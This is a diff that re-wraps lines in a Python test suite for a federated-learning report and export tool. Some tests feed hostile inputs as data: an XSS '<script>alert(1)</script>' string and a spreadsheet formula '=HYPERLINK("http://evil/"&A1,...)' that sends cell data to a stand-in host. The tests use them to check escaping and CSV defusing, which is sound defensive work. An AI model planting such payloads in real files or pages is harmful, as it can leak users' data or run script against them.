@@ -24,7 +24,9 @@ from kairosfl.report.watch import LivePage, serve
 
 
 def data_of(text):
-    return json.loads(re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.DOTALL)[1])
+    return json.loads(
+        re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.DOTALL)[1]
+    )
 
 
 VENDOR = files("kairosfl.report") / "assets" / "vendor"
@@ -37,7 +39,9 @@ def sweep(tmp_path_factory):
 
 
 def test_the_library_of_charts_is_the_recorded_one_and_reports_have_its_licence(sweep, tmp_path):
-    recorded = dict(reversed(line.split()) for line in (VENDOR / "SHA256SUMS").read_text().splitlines())
+    recorded = dict(
+        reversed(line.split()) for line in (VENDOR / "SHA256SUMS").read_text().splitlines()
+    )
     made = [path for path in VENDOR.iterdir() if path.name.endswith(".min.js")]
     assert {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in made} == recorded
     text = write_report([sweep], tmp_path / "report.html").read_text()
@@ -49,8 +53,16 @@ def test_one_page_holds_all_and_names_no_other_place(sweep, tmp_path):
     text = write_report([sweep], tmp_path / "deep" / "report.html").read_text()
     assert [group["label"] for group in data_of(text)["groups"]] == list(fake.ALGORITHMS)
     text = text.replace(LICENCE.read_text(), "")
-    names = {"2000/svg", "1999/xhtml", "1999/xlink", "2000/xmlns/", "XML/1998/namespace"}  # of XML, not to be opened
-    assert set(re.findall(r"https?://[^\s\"'<]+", text)) == {f"http://www.w3.org/{name}" for name in names}
+    names = {
+        "2000/svg",
+        "1999/xhtml",
+        "1999/xlink",
+        "2000/xmlns/",
+        "XML/1998/namespace",
+    }  # of XML, not to be opened
+    assert set(re.findall(r"https?://[^\s\"'<]+", text)) == {
+        f"http://www.w3.org/{name}" for name in names
+    }
     assert "connect-src 'none'" in text
     assert "kairosfl run cifar10.toml" in text
     assert "partition_seed = -1" in text
@@ -60,7 +72,10 @@ def test_one_page_holds_all_and_names_no_other_place(sweep, tmp_path):
 
 def test_text_from_a_folder_is_escaped(tmp_path):
     run = fake.write_run(tmp_path / "a", rounds=2)
-    about = json.loads((run / "run.json").read_text()) | {"command": "<script>alert(1)</script>", "device": "<b>"}
+    about = json.loads((run / "run.json").read_text()) | {
+        "command": "<script>alert(1)</script>",
+        "device": "<b>",
+    }
     (run / "run.json").write_text(json.dumps(about))
     text = write_report([run], tmp_path / "report.html").read_text()
     assert "<script>alert" not in text
@@ -78,7 +93,9 @@ def test_text_from_a_folder_is_escaped(tmp_path):
     ],
 )
 def test_the_verdict_says_how_far_it_can_be_trusted(tmp_path, tops, seeds, sentence):
-    fake.write_sweep(tmp_path, seeds=seeds, algorithms=dict(zip(["a", "bb"], tops, strict=False)), rounds=20)
+    fake.write_sweep(
+        tmp_path, seeds=seeds, algorithms=dict(zip(["a", "bb"], tops, strict=False)), rounds=20
+    )
     groups = read_groups([tmp_path])
     assert sentence in verdict(results(groups, 0.3), paired_tests(groups))
 
@@ -111,14 +128,19 @@ def test_a_run_that_stopped_is_not_taken_for_one_that_goes_on(tmp_path):
         "client_accuracy_worst": None,
     }
     (run / "metrics.jsonl").write_text("".join(json.dumps(row | nothing) + "\n" for row in rows))
-    (run / "log.txt").write_text("round 12: no good report\nstopped: 10 rounds in a row had no good report.\n")
+    (run / "log.txt").write_text(
+        "round 12: no good report\nstopped: 10 rounds in a row had no good report.\n"
+    )
     text = write_report([run], tmp_path / "report.html").read_text()
     assert "<span>stopped: 10 rounds in a row had no good report." in text
     assert "So far" not in text
     assert "Federated gradient norm (no round had a good report)" in text
     assert "Fisher trace (the FedFIM detector did not run" in text
     assert "Accuracy per client (it was not requested" in text
-    assert "Accuracy against local epochs (metrics.jsonl holds no evaluated round with its epochs)" in text
+    assert (
+        "Accuracy against local epochs (metrics.jsonl holds no evaluated round with its epochs)"
+        in text
+    )
 
 
 def test_beside_a_run_that_stopped_another_goes_on(tmp_path):
@@ -141,7 +163,13 @@ def test_a_run_that_has_next_to_nothing_still_makes_a_page(tmp_path):
 
 
 def test_a_page_about_many_groups_looks_into_the_first_of_them(tmp_path):
-    fake.write_sweep(tmp_path / "s", seeds=1, algorithms={f"rule{i}": 0.5 for i in range(14)}, rounds=2, clients=12)
+    fake.write_sweep(
+        tmp_path / "s",
+        seeds=1,
+        algorithms={f"rule{i}": 0.5 for i in range(14)},
+        rounds=2,
+        clients=12,
+    )
     text = write_report([tmp_path / "s"], tmp_path / "report.html").read_text()
     heats = {heat["key"] for heat in data_of(text)["heats"]}
     assert heats == {f"{kind}-{i}" for i in range(12) for kind in ("partition", "weights")}
@@ -164,14 +192,26 @@ def test_an_empty_folder_is_refused_and_nothing_is_written(tmp_path):
     ],
 )
 def test_every_picture_is_exported(tmp_path, kind, start):
-    run = fake.write_run(tmp_path / "run", algorithm="fedaware", rounds=4, clients=5, detector="fgn.paired()")
+    run = fake.write_run(
+        tmp_path / "run", algorithm="fedaware", rounds=4, clients=5, detector="fgn.paired()"
+    )
     written = export_figures([run], tmp_path / "out", kind)
-    curves = "accuracy accuracy-bytes accuracy-epochs loss train-loss client-accuracy client-quantiles"
+    curves = (
+        "accuracy accuracy-bytes accuracy-epochs loss train-loss client-accuracy client-quantiles"
+    )
     curves += " fgn elud coherence"
-    assert [path.stem for path in written] == [*curves.split(), "partition-A", "weights-A", "lambda-A"]
+    assert [path.stem for path in written] == [
+        *curves.split(),
+        "partition-A",
+        "weights-A",
+        "lambda-A",
+    ]
     assert all(path.read_bytes().startswith(start) for path in written)
     captions = (tmp_path / "out" / "captions.txt").read_text().splitlines()
-    assert captions[0] == f"accuracy.{kind}: Accuracy by round. 1 seed. Shaded: critical learning periods."
+    assert (
+        captions[0]
+        == f"accuracy.{kind}: Accuracy by round. 1 seed. Shaded: critical learning periods."
+    )
     assert len(captions) == len(written)
     if kind == "svg":
         again = export_figures([run], tmp_path / "again", kind)
@@ -185,13 +225,31 @@ def test_an_unknown_kind_of_picture_is_refused(tmp_path):
 
 def test_tables_are_exported_as_csv_and_latex(sweep, tmp_path):
     written = export_tables([sweep], tmp_path, target=0.5)
-    assert [path.name for path in written] == ["results.csv", "results.tex", "tests.csv", "tests.tex"]
+    assert [path.name for path in written] == [
+        "results.csv",
+        "results.tex",
+        "tests.csv",
+        "tests.tex",
+    ]
     first, *_ = rows = list(csv.DictReader((tmp_path / "results.csv").open()))
-    assert (first["label"], first["target"], first["seeds"], first["rounds"]) == ("fedavg", "0.5", "3", "20.0")
+    assert (first["label"], first["target"], first["seeds"], first["rounds"]) == (
+        "fedavg",
+        "0.5",
+        "3",
+        "20.0",
+    )
     table = (tmp_path / "results.tex").read_text().splitlines()
     shown = next(line for line in table if line.startswith("FedAvg &")).split(" & ")[1]
-    assert f"{100 * float(first['last_tenth']):.2f} $\\pm$ {100 * float(first['last_tenth_deviation']):.2f}" == shown
-    assert all(re.fullmatch(r"-?[\d.e-]*", value) for row in rows for key, value in row.items() if "_" in key)
+    assert (
+        f"{100 * float(first['last_tenth']):.2f} $\\pm$ {100 * float(first['last_tenth_deviation']):.2f}"
+        == shown
+    )
+    assert all(
+        re.fullmatch(r"-?[\d.e-]*", value)
+        for row in rows
+        for key, value in row.items()
+        if "_" in key
+    )
     assert len(list(csv.DictReader((tmp_path / "tests.csv").open()))) == 4
 
 
@@ -200,17 +258,26 @@ def test_runs_that_were_never_evaluated_are_exported_with_gaps(tmp_path):
     fake.edit(run, accuracy=None)
     export_tables([run], tmp_path)
     (row,) = csv.DictReader((tmp_path / "results.csv").open())
-    assert (row["target"], row["last_tenth"], row["last_tenth_count"], row["rounds"]) == ("", "", "0", "3.0")
+    assert (row["target"], row["last_tenth"], row["last_tenth_count"], row["rounds"]) == (
+        "",
+        "",
+        "0",
+        "3.0",
+    )
 
 
 @pytest.fixture
 def problems(tmp_path):
-    """Two algorithms on two deals of the data, two seeds each; the easy deal is ahead whatever the algorithm."""
+    """Two algorithms on two deals of the data, two seeds each; the easy deal is ahead whatever the
+    algorithm.
+    """
     for alpha, tops in ((0.1, (0.4, 0.5)), (1.0, (0.8, 0.7))):
         for algorithm, top in zip(("fedavg", "scaffold"), tops, strict=True):
             for seed in (0, 1):
                 folder = tmp_path / f"{algorithm}-{alpha}-{seed}"
-                fake.write_run(folder, algorithm=algorithm, seed=seed, rounds=20, top=top, alpha=alpha)
+                fake.write_run(
+                    folder, algorithm=algorithm, seed=seed, rounds=20, top=top, alpha=alpha
+                )
     return tmp_path
 
 
@@ -223,7 +290,9 @@ def test_algorithms_on_other_data_are_not_ranked_against_each_other(problems):
         ("fedavg · alpha=1.0", "scaffold · alpha=1.0"),
     ]
     said = verdict(rows, pairs)
-    assert said.index("scaffold · alpha=0.1</b> reaches") < said.index("fedavg · alpha=1.0</b>, the baseline, reaches")
+    assert said.index("scaffold · alpha=0.1</b> reaches") < said.index(
+        "fedavg · alpha=1.0</b>, the baseline, reaches"
+    )
     page = write_report([problems], problems / "report.html").read_text()
     assert page.count(">baseline</td>") == 2
     best = re.findall(r'<tr data-group="(\d)">(?:(?!</tr>).)*class="best"', page)
@@ -243,7 +312,10 @@ def test_each_problem_with_an_algorithm_of_its_own_is_named(tmp_path):
     ("dealt", "facts"),
     [
         (None, "dirichlet partition · α = 0.1 · "),  # a folder that does not record it
-        ("iid", "iid partition · epochs "),  # of a task without classes, say, whose settings were left out
+        (
+            "iid",
+            "iid partition · epochs ",
+        ),  # of a task without classes, say, whose settings were left out
         ("", "clients given · epochs "),  # by the data, whatever the settings are by default
     ],
 )
@@ -262,7 +334,9 @@ def test_the_same_samples_are_the_same_problem_however_they_were_asked_for(tmp_p
         about = json.loads((run / "run.json").read_text())
     for hashes in (about["data_hashes"], {}):  # data that come with a library have none
         for run in tmp_path.iterdir():
-            (run / "run.json").write_text(json.dumps(about | {"population_hash": "5e1f", "data_hashes": hashes}))
+            (run / "run.json").write_text(
+                json.dumps(about | {"population_hash": "5e1f", "data_hashes": hashes})
+            )
         assert [group.problem for group in read_groups([tmp_path])] == ["", ""]
         assert len(paired_tests(read_groups([tmp_path]))) == 1
 
@@ -271,7 +345,9 @@ def test_twins_on_the_same_samples_are_told_apart_beside_other_data(tmp_path):
     for alpha in (0.3, 0.5, 0.9):
         run = fake.write_run(tmp_path / str(alpha), alpha=alpha, rounds=5)
         about = json.loads((run / "run.json").read_text())
-        (run / "run.json").write_text(json.dumps(about | {"population_hash": "5e1f" if alpha < 0.9 else "77"}))
+        (run / "run.json").write_text(
+            json.dumps(about | {"population_hash": "5e1f" if alpha < 0.9 else "77"})
+        )
     groups = read_groups([tmp_path])
     assert [group.problem for group in groups] == ["alpha=0.3", "alpha=0.3", "alpha=0.9"]
     assert len({group.label for group in groups}) == 3
@@ -283,7 +359,9 @@ def test_data_without_checksums_are_told_apart_by_their_name(tmp_path):
     for name in ("cifar10", "digits"):
         run = fake.write_run(tmp_path / name, rounds=5)
         about = json.loads((run / "run.json").read_text())
-        (run / "run.json").write_text(json.dumps(about | {"population_hash": "5e1f", "data_hashes": {}}))
+        (run / "run.json").write_text(
+            json.dumps(about | {"population_hash": "5e1f", "data_hashes": {}})
+        )
         text = (run / "config.toml").read_text()
         (run / "config.toml").write_text(text.replace('"cifar10"', f'"{name}"'))
     assert [group.problem for group in read_groups([tmp_path])] == ["cifar10", "digits"]
@@ -304,9 +382,13 @@ def test_augmented_runs_have_the_same_data(tmp_path):
     assert [group.problem for group in read_groups([tmp_path])] == ["", ""]
 
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1"])
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1"]
+)
 def test_csv_defuses_what_a_spreadsheet_would_evaluate(text):
-    (row,) = csv.DictReader(io.StringIO(as_csv([{"algorithm": text, "gain": -1.5, "plain": "a=b"}]), newline=""))
+    (row,) = csv.DictReader(
+        io.StringIO(as_csv([{"algorithm": text, "gain": -1.5, "plain": "a=b"}]), newline="")
+    )
     assert row == {"algorithm": f"'{text}", "gain": "-1.5", "plain": "a=b"}
 
 
@@ -317,7 +399,9 @@ def test_latex_escapes_what_it_would_take_for_a_command():
     )
 
 
-@pytest.mark.parametrize(("kind", "start"), [("svg", b"<?xml"), ("pdf", b"%PDF"), ("png", b"\x89PNG")])
+@pytest.mark.parametrize(
+    ("kind", "start"), [("svg", b"<?xml"), ("pdf", b"%PDF"), ("png", b"\x89PNG")]
+)
 def test_the_quick_look_is_of_the_kind_that_its_name_says(sweep, tmp_path, kind, start):
     text = draw_comparison([sweep], tmp_path / f"look.{kind}").read_bytes()
     assert text.startswith(start)
@@ -379,7 +463,9 @@ def test_the_server_listens_here_only_and_answers_to_no_other_name(server):
         (["GET /"], None),
     ],
 )
-def test_a_request_that_no_browser_sends_is_answered_at_once_and_prints_nothing(server, lines, status, capsys):
+def test_a_request_that_no_browser_sends_is_answered_at_once_and_prints_nothing(
+    server, lines, status, capsys
+):
     with socket.create_connection(server.server_address, timeout=10) as peer:
         end = "" if status is None else "Connection: close\r\n\r\n"
         peer.sendall(("".join(f"{line}\r\n" for line in lines) + end).encode())
